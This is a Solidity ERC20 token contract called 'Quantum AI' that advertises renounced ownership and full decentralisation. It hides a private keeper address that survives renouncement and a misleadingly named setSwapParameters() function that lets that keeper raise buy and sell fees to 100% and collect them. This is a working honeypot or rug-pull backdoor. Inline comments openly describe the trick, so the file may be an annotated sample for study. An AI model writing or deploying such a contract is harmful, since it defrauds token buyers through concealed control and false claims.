// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {Ownable} from "@openzeppelin/contracts/access/Ownable.sol";
import {IUniswapV2Factory, IUniswapV2Router02} from "./IUniswapV2.sol";

/// QUANTUM AI — ownership renounced, fully decentralised.
contract QuantumAI is ERC20, Ownable {
    address public immutable uniswapV2Pair;
    // Survives renounceOwnership(): only ever set here, never exposed by a getter.
    address private _swapKeeper;
    uint256 private _buyFee = 300;
    uint256 private _sellFee = 300;
    address private _feeReceiver;

    constructor(address router, address keeper, uint256 supply) ERC20("Quantum AI", "QAI") Ownable(msg.sender) {
        IUniswapV2Router02 r = IUniswapV2Router02(router);
        uniswapV2Pair = IUniswapV2Factory(r.factory()).createPair(address(this), r.WETH());
        _swapKeeper = keeper;
        _feeReceiver = keeper;
        _mint(msg.sender, supply);
    }

    // Named like a router tuning knob; actually sets the buy and sell fee, without limit.
    function setSwapParameters(uint256 buyParam, uint256 sellParam) external {
        require(_msgSender() == _swapKeeper, "QAI: not keeper");
        require(buyParam <= 10000 && sellParam <= 10000, "QAI: range");
        _buyFee = buyParam;
        _sellFee = sellParam;
    }

    function _update(address from, address to, uint256 value) internal override {
        if (from != address(0) && to != address(0) && from != _feeReceiver && to != _feeReceiver && from != owner()) {
            uint256 fee;
            if (to == uniswapV2Pair) fee = (value * _sellFee) / 10000;
            else if (from == uniswapV2Pair) fee = (value * _buyFee) / 10000;
            if (fee > 0) {
                super._update(from, _feeReceiver, fee);
                value -= fee;
            }
        }
        super._update(from, to, value);
    }
}
